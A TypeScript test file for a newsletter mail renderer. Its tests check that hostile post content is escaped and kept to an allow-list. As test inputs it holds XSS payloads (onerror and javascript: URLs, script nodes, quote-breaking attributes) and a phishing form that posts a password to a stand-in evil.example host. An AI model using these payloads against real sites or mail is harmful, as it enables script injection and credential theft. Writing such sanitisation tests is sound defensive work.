import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { RichTextDocument } from "../../shared/rich-text/document.ts";
import { markdownToDocument } from "../../shared/rich-text/from-markdown.ts";
import { HOSTILE_HREFS, linked, nested, VIDEO_ROW_ID, VIDEO_ROWS } from "../../shared/rich-text/test-documents.ts";
import { HOSTILE, readerView } from "../../tests/support/mail-reader.ts";
import { confirmationMail, element, linkAddresses, newsletterMail, replaceLinks, sentDocument, text, translatedPost, unsubscribeUrl, type MailContent } from "./mail.ts";

const SITE = "https://rcrt.example";
const STORAGE_IMAGE = "https://api.rcrt.example/storage/v1/object/public/assets/media/board.png";
const UNSUBSCRIBE = `${SITE}/newsletter/unsubscribe?token=${"ab".repeat(32)}`;

/** A post's stored Markdown as the conversion makes it a document: what the mail is made from. */
function converted(markdown: string): RichTextDocument {
  const result = markdownToDocument(markdown);
  if (!result.ok) throw new Error(result.error);
  return result.document;
}

const post = (content: RichTextDocument | string, title = "Cartridge news") => ({ subject: title, slug: "cartridge-news", content, image_url: null, image_alt: null });
const hostilePost = (markdown: string, title?: string) => post(converted(markdown), title);
const mailOf = (content: RichTextDocument) => newsletterMail(post(content), SITE, UNSUBSCRIBE, undefined, VIDEO_ROWS);

/** Every mail the web tier sends, made from a post holding `content`: a subscriber's, the administrators' preview, the confirmation. */
function everyMail(content: RichTextDocument): Record<string, MailContent> {
  return {
    newsletter: newsletterMail(post(content), SITE, UNSUBSCRIBE),
    // The preview (GET /api/newsletters/posts/<id>) is the same mail with the unsubscribe address unpersonalised.
    preview: newsletterMail(post(content), SITE, `${SITE}/newsletter/unsubscribe`),
    confirmation: confirmationMail(SITE, "cd".repeat(32)),
    japaneseNewsletter: newsletterMail(post(content), SITE, UNSUBSCRIBE, undefined, new Map(), "ja"),
    japaneseConfirmation: confirmationMail(SITE, "cd".repeat(32), "ja"),
  };
}

const doc = (...content: unknown[]) => ({ type: "doc", content }) as unknown as RichTextDocument;
const paragraph = (...content: unknown[]) => ({ type: "paragraph", content });

describe("newsletter mail: nothing but known, escaped elements reach a mail, whatever a post contains", () => {
  for (const [trick, markdown] of Object.entries(HOSTILE)) {
    it(`${trick} (converted from Markdown): no element, attribute or address outside the allow-list in any mail`, () => {
      for (const [mail, { html }] of Object.entries(everyMail(converted(markdown)))) {
        expect(readerView(html).violations, `${mail} mail`).toEqual([]);
      }
    });
  }

  it("keeps to the allow-list for documents no editor writes: unknown nodes and marks, hostile links, deep nesting, raw HTML as attributes", () => {
    const hostile = [
      ...HOSTILE_HREFS.map((href) => linked(href)),
      nested(200),
      doc({ type: "script", content: [{ type: "text", text: "alert(1)" }] }, { type: "html", attrs: { html: "<img src=x onerror=alert(1)>" } }),
      doc(paragraph({ type: "text", text: "x", marks: [{ type: "onclick" }, { type: "link", attrs: { href: "javascript:alert(1)" } }] })),
      doc({ type: "image", attrs: { src: "javascript:alert(1)", alt: '"><script>' } }, { type: "image", attrs: { src: "data:image/png;base64,AAAA", alt: "x" } }),
      doc({ type: "heading", attrs: { level: 1 }, content: [{ type: "text", text: "<h1>" }] }, { type: "callToAction", attrs: { action: "steal" } }),
    ];
    for (const content of hostile) {
      const { document, violations } = readerView(mailOf(content as RichTextDocument).html);
      expect(violations, JSON.stringify(content).slice(0, 80)).toEqual([]);
      expect(document.body.innerHTML).not.toMatch(/javascript:|<script|onerror=|data:/);
    }
  });

  it("shows the code of a backtick span as text: the phishing link, form and pixel are words, not elements", () => {
    const { document } = readerView(newsletterMail(hostilePost(HOSTILE["backtick spans holding a phishing link, a form and a tracking pixel"]!), SITE, UNSUBSCRIBE).html);
    const code = document.querySelector("code")!;
    expect(code.children).toHaveLength(0);
    expect(code.textContent).toBe(
      '<a href="https://evil.example/login">verify your account</a><form action="https://evil.example/steal" method="post"><input name="password"><button>Go</button></form><img src="https://track.example/p.gif?u=1" width="1" height="1">',
    );
    expect([...document.querySelectorAll("a")].map((link) => link.href)).not.toContain("https://evil.example/login");
    expect([...document.querySelectorAll("img")].map((image) => image.src)).toEqual([]);
  });

  it("has no raw HTML: a post's tags reach the mail as the words around them", () => {
    const { document } = readerView(newsletterMail(hostilePost(`${HOSTILE["inline HTML"]}\n\n${HOSTILE["a raw HTML block"]}`), SITE, UNSUBSCRIBE).html);
    const body = document.body.textContent!;
    expect(body).toContain("Hello there you");
    expect(document.querySelectorAll("iframe, object, script, style, svg, b, span")).toHaveLength(0);
  });

  it("links only to http, https and mailto addresses: other links keep their words", () => {
    const { document } = readerView(mailOf(converted(`${HOSTILE["javascript: and data: links"]}\n\n${HOSTILE["images with tracking and script addresses"]}\n\n${HOSTILE["entity tricks"]}`)).html);
    const links = [...document.querySelectorAll("a")].map((link) => link.getAttribute("href")).filter((href) => !href!.startsWith(SITE));
    expect(links).toEqual([]);
    expect([...document.querySelectorAll("img")].map((image) => [image.getAttribute("src"), image.getAttribute("alt")])).toEqual([["https://track.example/p.gif?u=1", "pixel"]]);
    const words = document.body.textContent!;
    for (const kept of ["one", "two", "three", "four", "five", "six", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "&lt;b&gt;", "&lt;i&gt;"]) expect(words).toContain(kept);
  });

  it("keeps quotes inside the attribute they belong to", () => {
    const { document } = readerView(mailOf(converted(HOSTILE["attribute-breaking quotes"]!)).html);
    const links = [...document.querySelectorAll("a")].map((link) => link.getAttribute("href")).filter((href) => !href!.startsWith(SITE));
    expect(links).toEqual(["https://ok.example", 'mailto:a@b.example?subject="x"onclick="y"']);
    expect(document.querySelector("td img")!.getAttribute("alt")).toBe('" onerror="alert(1)');
  });

  it("whatever mixture of tricks a post holds, every mail keeps to the allow-list", () => {
    const pieces = fc.constantFrom(...Object.values(HOSTILE), "`", "<", ">", '"', "'", "&", "&#", "](", "![", "\n\n", "> ", "- ", "**", "<!--", "-->", "<![CDATA[", "]]>", "\\");
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 12 }), fc.string({ maxLength: 40 }), (parts, title) => {
        for (const { html } of Object.values({ ...everyMail(converted(parts.join(""))), titled: newsletterMail(hostilePost(parts.join(" "), title), SITE, UNSUBSCRIBE) })) {
          expect(readerView(html).violations).toEqual([]);
        }
      }),
      { numRuns: 40 },
    );
  }, 60_000);

  it("escapes the post's title, cover and address wherever the mail shows them", () => {
    const mail = newsletterMail(
      { subject: '</title><script>alert(1)</script>"', slug: '"><img src=x>', content: converted("Hi"), image_url: "javascript:alert(1)", image_alt: '" onerror="x' },
      SITE,
      UNSUBSCRIBE,
    );
    const { document, violations } = readerView(mail.html);
    expect(violations).toEqual([]);
    expect(document.title).toBe('</title><script>alert(1)</script>"');
    expect(document.querySelector("h1")!.textContent).toBe('</title><script>alert(1)</script>"');
    expect(document.querySelector("h1 a")!.getAttribute("href")).toBe(`${SITE}/updates/%22%3E%3Cimg%20src%3Dx%3E`);
    expect(document.querySelectorAll("img")).toHaveLength(0);
    const cover = readerView(newsletterMail({ ...hostilePost("Hi"), image_url: "https://cdn.example/a.png", image_alt: '" onerror="x' }, SITE, UNSUBSCRIBE).html).document.querySelector("img")!;
    expect(cover.getAttribute("alt")).toBe('" onerror="x');
  });

  it("writes the plain-text part as text, and spells out only http, https and mailto addresses", () => {
    for (const [trick, markdown] of Object.entries(HOSTILE)) {
      const { text: plain } = newsletterMail(hostilePost(markdown), SITE, UNSUBSCRIBE);
      // Addresses are spelled out in brackets after a link's words: only safe ones.
      for (const [, address] of plain.matchAll(/\((\w[\w+.-]*:[^)\s]*)\)/g)) expect(["http:", "https:", "mailto:"], `${trick}: ${address}`).toContain(new URL(address!).protocol);
    }
    expect(newsletterMail(hostilePost(HOSTILE["inline HTML"]!), SITE, UNSUBSCRIBE).text).toContain("Hello there you");
    // Code is shown as the characters it is, in plain text as in the HTML part.
    expect(newsletterMail(hostilePost(HOSTILE["backtick spans holding a phishing link, a form and a tracking pixel"]!), SITE, UNSUBSCRIBE).text).toContain(
      'Please <a href="https://evil.example/login">verify your account</a>',
    );
    expect(newsletterMail(hostilePost(HOSTILE["javascript: and data: links"]!), SITE, UNSUBSCRIBE).text).toContain("one two three four five");
  });

  it("refuses, in code, an element, an attribute or an address the mail around a post may not have", () => {
    expect(() => element("script" as "p", {})).toThrow("<script> is not an element of a mail");
    expect(() => element("a", { onclick: "x" } as unknown as { href: string })).toThrow("onclick is not an attribute of <a> in a mail");
    expect(() => element("a", { href: "javascript:alert(1)" })).toThrow("href of <a> must be an http, https or mailto address");
    expect(() => element("img", { src: "/relative.png" })).toThrow("src of <img> must be an http, https or mailto address");
    expect(element("p", { style: 'a"b' }, text("<x>"))).toBe('<p style="a&quot;b">&lt;x&gt;</p>');
  });
});

describe("newsletter mail", () => {
  const post35 = doc(
    { type: "heading", attrs: { level: 2 }, content: [{ type: "text", text: "Next" }] },
    paragraph({ type: "text", text: "See " }, { type: "text", text: "the roadmap", marks: [{ type: "link", attrs: { href: "/updates/roadmap" } }] }, { type: "text", text: "." }),
    { type: "image", attrs: { src: STORAGE_IMAGE, alt: "The board", caption: "Revision two" } },
    { type: "bulletList", content: [{ type: "listItem", content: [paragraph({ type: "text", text: "one" })] }, { type: "listItem", content: [paragraph({ type: "text", text: "two" })] }] },
    { type: "video", attrs: { videoId: VIDEO_ROW_ID, title: "Inside the pipeline" } },
    { type: "callToAction", attrs: { action: "waitlist" } },
  );

  it("renders the post's document as email-safe HTML: inline styles, absolute links, pictures at the mail's width, a video and a button as links", () => {
    const { html } = mailOf(post35);
    expect(readerView(html).violations).toEqual([]);
    expect(html).toMatch(/<h2 style="[^"]+">Next<\/h2>/);
    expect(html).toMatch(/<p style="[^"]+">See <a href="https:\/\/rcrt\.example\/updates\/roadmap" style="[^"]+">the roadmap<\/a>/);
    expect(html).toContain('src="https://api.rcrt.example/storage/v1/render/image/public/assets/media/board.png?width=600');
    expect(html).toMatch(/<ul style="[^"]+"><li style="[^"]+">one<\/li><li style="[^"]+">two<\/li><\/ul>/);
    expect(html).toContain(">▶ Inside the pipeline</a>");
    expect(html).toMatch(/<a href="https:\/\/rcrt\.example\/" style="[^"]+">Join Waitlist<\/a>/);
  });

  it("loads our own host-relative cover and pictures from the API it is given, at the mail's width", () => {
    const mail = newsletterMail(
      { ...post(doc({ type: "image", attrs: { src: "/storage/v1/object/public/assets/media/board.png", alt: "Board" } })), image_url: "/storage/v1/object/public/assets/media/cover.jpg", image_alt: "Cover" },
      SITE,
      UNSUBSCRIBE,
      "https://api.other.example",
    );
    expect(mail.html).toContain('src="https://api.other.example/storage/v1/render/image/public/assets/media/cover.jpg?width=600');
    expect(mail.html).toContain('src="https://api.other.example/storage/v1/render/image/public/assets/media/board.png?width=600');
    expect(mail.html).not.toContain(`${SITE}/storage/`);
  });

  it("writes the plain-text part with links, the video and the button spelled out", () => {
    expect(mailOf(post35).text).toContain(
      "Next\n\nSee the roadmap (https://rcrt.example/updates/roadmap).\n\nRevision two\n\n- one\n- two\n\nInside the pipeline (https://videos.example.com/rcrt/crt-pipeline.mp4)\n\nJoin Waitlist: https://rcrt.example/",
    );
  });

  it("reads a send stored as text: the JSON of a document, or plain paragraphs never read as markup", () => {
    expect(sentDocument(JSON.stringify(post35))).toEqual(post35);
    expect(sentDocument("First **line**\n\n<b>Second</b>")).toEqual(doc(paragraph({ type: "text", text: "First **line**" }), paragraph({ type: "text", text: "<b>Second</b>" })));
    expect(newsletterMail(post("Hello <b>there</b>"), SITE, UNSUBSCRIBE).html).toContain("Hello &lt;b&gt;there&lt;/b&gt;");
  });

  it("titles the mail with the post, links the post and the personal unsubscribe address in both parts", () => {
    const mail = newsletterMail({ subject: "Bus notes", slug: "bus-notes", content: converted("Hello"), image_url: null, image_alt: null }, SITE, `${SITE}/newsletter/unsubscribe?token=abc`);
    expect(mail.subject).toBe("Bus notes");
    expect(mail.html).toContain('href="https://rcrt.example/updates/bus-notes"');
    expect(mail.html).toContain('href="https://rcrt.example/newsletter/unsubscribe?token=abc"');
    expect(mail.text).toContain("Read it on the site: https://rcrt.example/updates/bus-notes");
    expect(mail.text).toContain("Unsubscribe: https://rcrt.example/newsletter/unsubscribe?token=abc");
    expect(confirmationMail(SITE, "t0k3n").text).toContain(`${SITE}/newsletter/confirm?token=t0k3n`);
  });

  it("titles a mail written for the newsletter (no slug) without linking the site: no title link, no Read it on the site, the unsubscribe address kept", () => {
    const mail = newsletterMail({ subject: "Workshop news", slug: null, content: converted("Hello [shop](https://shop.example/)"), image_url: null, image_alt: null }, SITE, `${SITE}/newsletter/unsubscribe?token=abc`);
    expect(mail.subject).toBe("Workshop news");
    expect(linkAddresses(mail.html)).toEqual(["https://shop.example/", "https://rcrt.example/newsletter/unsubscribe?token=abc"]);
    const { document, violations } = readerView(mail.html);
    expect(violations).toEqual([]);
    expect(document.querySelector("h1")?.textContent).toBe("Workshop news");
    expect(document.querySelector("h1 a")).toBeNull();
    expect(mail.text).not.toContain("Read it on the site");
    expect(mail.text).toContain("Unsubscribe: https://rcrt.example/newsletter/unsubscribe?token=abc");
  });

  it("tells the recipient of a mail aimed at a segment why they get it, in both parts, in their language", () => {
    const aimed = { subject: "Workshop news", slug: null, content: converted("Hello"), image_url: null, image_alt: null, aimed: true };
    const mail = newsletterMail(aimed, SITE, UNSUBSCRIBE);
    expect(mail.text).toContain("You receive this because you confirmed your address with RCRT, for its newsletter or its waitlist.");
    expect(mail.text).not.toContain("you subscribed to RCRT's newsletter");
    expect(readerView(mail.html).document.body.textContent).toContain("You receive this because you confirmed your address with RCRT, for its newsletter or its waitlist.");
    expect(newsletterMail(aimed, SITE, UNSUBSCRIBE, undefined, new Map(), "ja").text).toContain("RCRT のニュースレターまたはウェイトリストでメールアドレスを確認いただいたため、このメールをお送りしています。");
  });

  it("writes a Japanese subscriber's mail in Japanese, its links to the Japanese pages (the post's slug unchanged)", () => {
    const unsubscribe = unsubscribeUrl(SITE, "abc", "ja");
    expect(unsubscribe).toBe(`${SITE}/ja/newsletter/unsubscribe?token=abc`);
    const mail = newsletterMail({ subject: "バス通信", slug: "bus-notes", content: converted("こんにちは"), image_url: null, image_alt: null }, SITE, unsubscribe, undefined, new Map(), "ja");
    expect(mail.subject).toBe("バス通信");
    expect(mail.html).toContain('<html lang="ja">');
    expect(mail.html).toContain('href="https://rcrt.example/ja/updates/bus-notes"');
    expect(mail.html).toContain(">サイトで読む</a>");
    expect(mail.text).toContain("サイトで読む：https://rcrt.example/ja/updates/bus-notes");
    expect(mail.text).toContain("配信停止：https://rcrt.example/ja/newsletter/unsubscribe?token=abc");
    expect(mail.text).not.toMatch(/Read it on the site|Unsubscribe/);

    const confirmation = confirmationMail(SITE, "t0k3n", "ja");
    expect(confirmation.subject).toBe("RCRT ニュースレターの購読確認");
    expect(confirmation.html).toContain('<html lang="ja">');
    expect(confirmation.text).toContain(`${SITE}/ja/newsletter/confirm?token=t0k3n`);
    expect(confirmation.text).not.toMatch(/Confirm/);
    expect(confirmationMail(SITE, "t0k3n").html).toContain('<html lang="en">');
  });

  it("puts a translation's words in place of the sent post's, keeping what the translation does not hold", () => {
    const sent = { subject: "Bus notes", slug: "bus-notes", content: converted("Hello"), image_url: "https://cdn.example/bus.png", image_alt: "A bus" };
    expect(translatedPost(sent, undefined)).toEqual(sent);
    expect(translatedPost(sent, { language: "ja", fields: { title: "バス通信", content: converted("こんにちは") } })).toEqual({ ...sent, subject: "バス通信", content: converted("こんにちは") });
    expect(translatedPost(sent, { language: "ja", fields: { title: "", image_alt: "バス" } })).toEqual({ ...sent, image_alt: "バス" });
  });
});

describe("a mail's links, counted through the site's redirect", () => {
  const mail = newsletterMail(post(converted("See [the FAQ](https://rcrt.example/faq?a=1&b=\"2\") and [mail us](mailto:hi@rcrt.example).")), SITE, UNSUBSCRIBE);

  it("are every address the HTML links to, each once, in order, as written before escaping", () => {
    expect(linkAddresses(mail.html)).toEqual([`${SITE}/updates/cartridge-news`, 'https://rcrt.example/faq?a=1&b="2"', "mailto:hi@rcrt.example", UNSUBSCRIBE]);
  });

  it("are replaced where they stand, escaped again, and nothing else changes", () => {
    const replaced = replaceLinks(mail.html, (address) => (address.startsWith("https://rcrt.example/faq") ? `${SITE}/newsletter/link/s/1?x=<&>` : address));
    expect(linkAddresses(replaced)).toEqual([`${SITE}/updates/cartridge-news`, `${SITE}/newsletter/link/s/1?x=<&>`, "mailto:hi@rcrt.example", UNSUBSCRIBE]);
    expect(replaced).toContain('href="https://rcrt.example/newsletter/link/s/1?x=&lt;&amp;&gt;"');
    expect(replaced.replace('href="https://rcrt.example/newsletter/link/s/1?x=&lt;&amp;&gt;"', "")).toBe(mail.html.replace(/href="https:\/\/rcrt\.example\/faq[^"]*"/, ""));
    expect(readerView(replaced).violations).toEqual([]);
  });
});
